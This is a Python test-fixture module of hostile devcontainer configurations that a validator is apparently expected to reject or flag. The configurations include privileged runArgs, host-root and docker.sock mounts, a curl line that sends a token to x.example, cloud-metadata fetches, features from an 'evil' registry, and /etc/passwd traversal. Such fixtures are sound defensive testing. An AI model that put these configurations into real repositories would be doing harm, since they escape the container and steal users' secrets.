"""Repositories whose devcontainer would take a wall away, reach out, or run as the user: one table.

`named` are the words by which a message has to name what was tried; `code` is how it ends before
trust: 2 for what cannot be, 3 for what only trust lets count, 4 for what cannot be had here. 0 in
`code` means that the key is passed over and named, before trust and after it.
"""

import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any

__all__ = ["CASES", "CONFIG", "FEATURE_KEYS", "KEYS", "PASSED_OVER", "Case"]

CONFIG = ".devcontainer/devcontainer.json"
IMAGE = "house/none:1"  # is not there, so that a start that gets to its engine ends there
PASSED_OVER = 0
#: All properties of devContainer.base.schema.json and devContainerFeature.schema.json of
#: https://github.com/devcontainers/spec/tree/main/schemas
KEYS = frozenset(
    {
        *("$schema", "additionalProperties", "appPort", "build", "capAdd", "containerEnv"),
        *("containerUser", "context", "customizations", "dockerComposeFile", "dockerFile"),
        *("features", "forwardPorts", "hostRequirements", "image", "init", "initializeCommand"),
        *("mounts", "name", "onCreateCommand", "otherPortsAttributes", "overrideCommand"),
        *("overrideFeatureInstallOrder", "portsAttributes", "postAttachCommand"),
        *("postCreateCommand", "postStartCommand", "privileged", "remoteEnv", "remoteUser"),
        *("runArgs", "runServices", "secrets", "securityOpt", "service", "shutdownAction"),
        *("updateContentCommand", "updateRemoteUserUID", "userEnvProbe", "waitFor"),
        *("workspaceFolder", "workspaceMount"),
        *("build.args", "build.cacheFrom", "build.context", "build.dockerfile", "build.options"),
        *("build.target",),
    }
)
FEATURE_KEYS = frozenset(
    {
        *("capAdd", "containerEnv", "dependsOn", "entrypoint", "id", "init", "installsAfter"),
        *("mounts", "onCreateCommand", "options", "postAttachCommand", "postCreateCommand"),
        *("postStartCommand", "privileged", "securityOpt", "updateContentCommand"),
    }
)


@dataclass(frozen=True, kw_only=True)
class Case:
    """One repository."""

    tries: str
    key: str  # the property that it is tried by; `feature.KEY` for one of a feature
    code: int
    named: tuple[str, ...]  # what the message says
    body: Mapping[str, Any] | str = field(default_factory=dict)  # a text is written as it is
    files: Mapping[str, str] = field(default_factory=dict)  # beside it, by path
    links: Mapping[str, str] = field(default_factory=dict)  # likewise: what each says
    after: str = "over"  # after trust: over (passed over and named), granted, or refused


def _over(tries: str, key: str, value: Any) -> Case:
    return Case(tries=tries, key=key, code=PASSED_OVER, named=(key,), body={key: value})


def _guarded(tries: str, key: str, value: Any, **more: Any) -> Case:
    return Case(tries=tries, key=key, code=3, named=(CONFIG, key), body={key: value}, **more)


def _taken_away() -> Iterator[Case]:
    """Keys that would take a wall away, or run outside of all."""
    ran = "touch $CANARY/ran"
    yield _guarded("run a command here", "initializeCommand", ran)
    yield _guarded("run a program here", "initializeCommand", ["touch", "$CANARY/ran"])
    yield _guarded("run commands here", "initializeCommand", {"a": ran, "b": ["sh", "-c", ran]})
    for words in (
        *(["--privileged"], ["--network=host"], ["-v", "/:/host"], ["--device=/dev/kvm"]),
        *(["--pid=host"], ["--userns=host"], ["--cap-add=ALL"], ["--ipc", "host"]),
        *(["--security-opt=seccomp=unconfined"], ["--volumes-from=other"], ["--env-file=/etc/x"]),
    ):
        yield _guarded(f"start with {' '.join(words)}", "runArgs", words)
    yield _guarded("be privileged", "privileged", True)
    yield _guarded("be privileged by a word", "privileged", "yes")
    yield _guarded("a capability", "capAdd", ["SYS_ADMIN"])
    yield _guarded("no filter of system calls", "securityOpt", ["seccomp=unconfined"])
    yield _guarded("no profile", "securityOpt", ["apparmor=unconfined", "label=disable"])
    for said in (
        "source=/,target=/host,type=bind",
        {"type": "bind", "source": "/var/run/docker.sock", "target": "/var/run/docker.sock"},
        {"type": "volume", "source": "others", "target": "/data"},
        "type=tmpfs,target=/run/patchyard",
        "source=${localEnv:HOME}/.ssh,target=/keys,type=bind",
    ):
        yield _guarded(f"mount {said}", "mounts", [said])
    yield _guarded("mount all in place of the workspace", "workspaceMount",
                   "source=/,target=/workspace,type=bind")  # fmt: skip


def _composed() -> Iterator[Case]:
    compose = (
        "services:\n  app:\n    image: house/none:1\n    privileged: true\n    network_mode: host\n"
        "    volumes: ['/:/host']\n    command: touch /host/ran\n"
    )
    for value in ("compose.yml", ["compose.yml", "../other.yml"], "/etc/compose.yml"):
        yield Case(
            tries=f"a compose file {value}", key="dockerComposeFile", code=3,
            named=(CONFIG, "dockerComposeFile"), after="refused",
            body={"dockerComposeFile": value, "service": "app", "runServices": ["db"]},
            files={".devcontainer/compose.yml": compose},
        )  # fmt: skip
    yield _guarded("a service", "service", "app")
    yield _guarded("further services", "runServices", ["db"])


def _variables() -> Iterator[Case]:
    secret = "${localEnv:TOKEN}"
    for key, value in {
        "containerEnv": {"T": secret},
        "remoteEnv": {"T": "${env:TOKEN}"},
        "postCreateCommand": f"echo {secret}",
        "postStartCommand": ["echo", secret],
        "onCreateCommand": {"a": secret},
        "updateContentCommand": secret,
        "postAttachCommand": f"curl -d {secret} https://x.example",
        "workspaceFolder": f"/w/{secret}",
        "remoteUser": secret,
        "containerUser": secret,
        "image": f"house/{secret}",
        "name": secret,
        "customizations": {"vscode": {"a": secret}},
    }.items():
        yield Case(tries=f"read a variable of the user's in {key}", key=key, code=3,
                   named=(CONFIG, f"nv:TOKEN}} in {key}"), body={key: value},
                   after="granted")  # fmt: skip
    yield Case(tries="read it in a build", key="build.args", code=3, after="granted",
               named=(CONFIG, "build.args.T"), files={".devcontainer/Dockerfile": "FROM x\n"},
               body={"build": {"dockerfile": "Dockerfile", "args": {"T": secret}}})  # fmt: skip
    yield Case(tries="put it together of parts", key="postCreateCommand", code=3, after="granted",
               named=(CONFIG, "${localEnv:TOKEN}"),
               body={"postCreateCommand": "echo ${containerEnv:Q:$}{localEnv:TOKEN}"})  # fmt: skip
    for name in ("A\nB", "A=B", "", "LD PRELOAD"):
        yield Case(tries=f"a variable called {name!r}", key="containerEnv", code=2, after="refused",
                   named=(CONFIG, "containerEnv"), body={"containerEnv": {name: "x"}})  # fmt: skip
    for user in ("root:0:0", "a\nroot::0:0::/:/bin/sh", "../x", "-u0"):
        yield Case(tries=f"a user called {user!r}", key="remoteUser", code=2, after="refused",
                   named=(CONFIG, "remoteUser"), body={"remoteUser": user})  # fmt: skip


def _places() -> Iterator[Case]:
    for folder in ("/run/patchyard/toolbox", "/proc", "/etc", "/", "/sys/fs/cgroup", "//run//.."):
        yield Case(tries=f"lie at {folder}", key="workspaceFolder", code=2, after="refused",
                   named=(CONFIG, "workspaceFolder"), body={"workspaceFolder": folder})  # fmt: skip
    yield Case(tries="lie beside the checkout", key="workspaceFolder", code=2, after="refused",
               named=(CONFIG, "workspaceFolder"), body={"workspaceFolder": "../../x"})  # fmt: skip
    for key, said in {
        "build.dockerfile": {"dockerfile": "../../../etc/passwd"},
        "build.context": {"dockerfile": "Dockerfile", "context": "../.."},
    }.items():
        yield Case(tries=f"take {said}", key=key, code=2, after="refused",
                   named=(CONFIG, key.split(".")[1]), body={"build": said})  # fmt: skip
    for path in ("/etc/passwd", "~/../../etc/x/../../.."):
        yield Case(tries=f"take the older {path}", key="dockerFile", code=2, after="refused",
                   named=(CONFIG,), body={"dockerFile": path})  # fmt: skip
    yield Case(tries="take the older context", key="context", code=2, after="refused",
               named=(CONFIG, "context"),
               body={"dockerFile": "Dockerfile", "context": "../../.."})  # fmt: skip


def _builds() -> Iterator[Case]:
    """What a Dockerfile says; nothing of it is sent to an engine."""
    for tries, text, named in (
        ("metadata of a cloud", "FROM scratch\nADD http://169.254.169.254/ /x", "may reach out"),
        ("fetch by git", "FROM scratch\nADD git@x.example:a.git /x", "may reach out"),
        ("a name put together", "FROM scratch\nARG W=http://x\nADD $W /x", "may reach out"),
        ("the network of this machine", "FROM scratch\nRUN --network=host true", "--network"),
        ("a mount of secrets", "FROM scratch\nRUN --mount=type=secret,id=x true", "--mount"),
        ("the agent of SSH", "FROM scratch\nRUN --mount=type=ssh true", "--mount"),
        ("less security", "FROM scratch\nRUN --security=insecure true", "--security"),
        ("a trigger that fetches", "FROM scratch\nONBUILD ADD https://x.example/ /x", "reach out"),
        ("another platform", "FROM --platform=linux/s390x scratch", "--platform"),
        ("a document inside", "FROM scratch\nRUN <<EOF\ntrue\nEOF", "here-documents"),
        ("no instruction", "FROM scratch\nhttp://x.example/", "no instruction"),
        ("another escape", "# escape=`\nFROM scratch", "escape"),
    ):
        yield Case(tries=f"build with {tries}", key="build", code=4, after="refused",
                   named=(".devcontainer/Dockerfile", named),
                   files={".devcontainer/Dockerfile": f"{text}\n"},
                   body={"build": {"dockerfile": "Dockerfile"}})  # fmt: skip
    own = {".devcontainer/Dockerfile": "FROM scratch\n"}
    mine = {"dockerfile": "Dockerfile"}
    yield Case(tries="options of the engine", key="build.options", code=3, files=own,
               named=(CONFIG, "build.options"),
               body={"build": {**mine, "options": ["--network=host"]}})  # fmt: skip
    yield Case(tries="layers of a registry", key="build.cacheFrom", code=PASSED_OVER, files=own,
               named=("build.cacheFrom",),
               body={"build": {**mine, "cacheFrom": "x.example/a"}})  # fmt: skip
    yield Case(tries="an unknown key of a build", key="build", code=PASSED_OVER, files=own,
               named=("build.secrets",),
               body={"build": {"dockerfile": "Dockerfile", "secrets": ["x"]}})  # fmt: skip
    yield Case(tries="a Dockerfile behind a link", key="build.dockerfile", code=4, after="refused",
               named=("Dockerfile",), links={".devcontainer/Dockerfile": "/etc/passwd"},
               body={"build": {"dockerfile": "Dockerfile"}})  # fmt: skip
    yield Case(tries="a file that is preprocessed", key="build.dockerfile", code=4,
               after="refused", named=("Dockerfile.in",),
               files={".devcontainer/Dockerfile.in": '#include "/etc/passwd"\nFROM scratch\n'},
               body={"build": {"dockerfile": "Dockerfile.in"}})  # fmt: skip
    yield Case(tries="a stage of that name", key="build.target", code=4, after="refused",
               named=(), files={".devcontainer/Dockerfile": "FROM x.example/a AS t\n"},
               body={"build": {"dockerfile": "Dockerfile", "target": "t"}})  # fmt: skip


def _features() -> Iterator[Case]:
    for name in ("ghcr.io/evil/x:1", "https://x.example/x.tgz", "node", "localhost:5000/x/y:1"):
        yield Case(tries=f"fetch the feature {name}", key="features", code=3, after="granted",
                   named=(CONFIG, name), body={"features": {name: {}}})  # fmt: skip
    yield Case(tries="ask elsewhere for an order", key="overrideFeatureInstallOrder", code=3,
               named=(CONFIG, "ghcr.io/evil/o"), after="granted",
               body={"overrideFeatureInstallOrder": ["ghcr.io/evil/o"]})  # fmt: skip
    for name in ("../../x", "/etc/x", "../x"):
        yield Case(tries=f"take the feature {name}", key="features", code=2, after="refused",
                   named=(CONFIG, "features"), body={"features": {name: {}}})  # fmt: skip
    for key, value in {
        "privileged": True,
        "capAdd": ["SYS_ADMIN"],
        "securityOpt": ["seccomp=unconfined"],
        "mounts": [{"type": "bind", "source": "/", "target": "/host"}],
        "init": True,
        "entrypoint": "/opt/start",
    }.items():
        yield _feature(f"{key} by a feature", key, {key: value}, (f"{key} of ./f",), after="over")
    for key, value in {
        "dependsOn": {"ghcr.io/evil/d:1": {}},
        "installsAfter": ["ghcr.io/evil/d"],
    }.items():
        yield _feature(f"{key} elsewhere", key, {key: value}, ("ghcr.io/evil/d",), after="granted")
    for key in ("containerEnv", "postCreateCommand", "onCreateCommand", "updateContentCommand",
                "postStartCommand", "postAttachCommand", "options"):  # fmt: skip
        said: Any = "echo ${localEnv:TOKEN}"
        said = {"A": said} if key == "containerEnv" else said
        said = {"a": {"default": "${localEnv:TOKEN}"}} if key == "options" else said
        yield _feature(f"read a variable in {key} of a feature", key, {key: said},
                       ("${localEnv:TOKEN}",), after="granted")  # fmt: skip
    yield _feature("an id that is a path", "id", {"id": "../../x"}, ("id",), code=2)
    yield _feature("keys that are inherited", "id", {"__proto__": {"privileged": True}},
                   ("__proto__",), code=2)  # fmt: skip


def _feature(
    tries: str,
    key: str,
    body: Mapping[str, Any],
    named: tuple[str, ...],
    *,
    code: int = 3,
    after: str = "refused",
) -> Case:
    home = ".devcontainer/f"
    files = {f"{home}/devcontainer-feature.json": json.dumps(body), f"{home}/install.sh": "true\n"}
    return Case(tries=tries, key=f"feature.{key}", code=code, named=(CONFIG, *named),
                body={"features": {"./f": {}}}, files=files, after=after)  # fmt: skip


def _passed_over() -> Iterator[Case]:
    """Keys of the schema that count for nothing here, and say so."""
    yield _over("open ports", "forwardPorts", [22, "db:5432"])
    yield _over("publish ports", "appPort", ["0.0.0.0:22:22"])
    yield _over("open a browser", "portsAttributes", {"80": {"onAutoForward": "openBrowser"}})
    yield _over("open a browser for all", "otherPortsAttributes", {"onAutoForward": "openBrowser"})
    yield _over("another first process", "init", True)
    yield _over("change users", "updateRemoteUserUID", False)
    yield _over("run the user's shell files", "userEnvProbe", "loginInteractiveShell")
    yield _over("the image's own program", "overrideCommand", False)
    yield _over("stay", "shutdownAction", "none")
    yield _over("not be waited for", "waitFor", "initializeCommand")
    yield _over("be given secrets", "secrets", {"TOKEN": {"description": "yours"}})
    yield _over("further keys", "additionalProperties", {"privileged": True})
    yield _over("a key in other letters", "Privileged", True)
    yield _over("keys that are inherited", "__proto__", {"privileged": True})
    yield Case(tries="all memory", key="hostRequirements", code=PASSED_OVER,
               named=("hostRequirements.memory",), after="granted",
               body={"hostRequirements": {"memory": "900tb"}})  # fmt: skip
    yield Case(tries="a graphics card", key="hostRequirements", code=PASSED_OVER,
               named=("hostRequirements.gpu",),
               body={"hostRequirements": {"gpu": True}})  # fmt: skip


def _read() -> Iterator[Case]:
    """Files that are hard to read."""
    for tries, text in {
        "two keys of one name": f'{{"image": "{IMAGE}", "privileged": false, "privileged": true}}',
        "deep nesting": "[" * 50_000,
        "a number of thousands of digits": f'{{"image": "i", "a": {"9" * 5000}}}',
        "no object": '["image"]',
        "control characters in what is unknown": '{"image": "i", "workspaceFolder": "\\u001b[2Jx"}',
    }.items():
        yield Case(tries=tries, key="$schema", code=2, named=(CONFIG,), body=text, after="refused")
    yield Case(tries="a schema elsewhere", key="$schema", code=4, named=(IMAGE,), after="refused",
               body={"$schema": "https://x.example/schema.json"})  # fmt: skip
    for image in ("x.example/evil:latest", "127.0.0.1:5000/evil", "docker.io/library/evil"):
        yield Case(tries=f"pull {image}", key="image", code=4, named=(image,), after="refused",
                   body={"image": image})  # fmt: skip
    yield Case(tries="an image of another repository", key="image", code=4, after="refused",
               named=("patchyard",), body={"image": "patchyard-devcontainer:0"})  # fmt: skip


CASES = (
    *_taken_away(),
    *_composed(),
    *_variables(),
    *_places(),
    *_builds(),
    *_features(),
    *_passed_over(),
    *_read(),
)
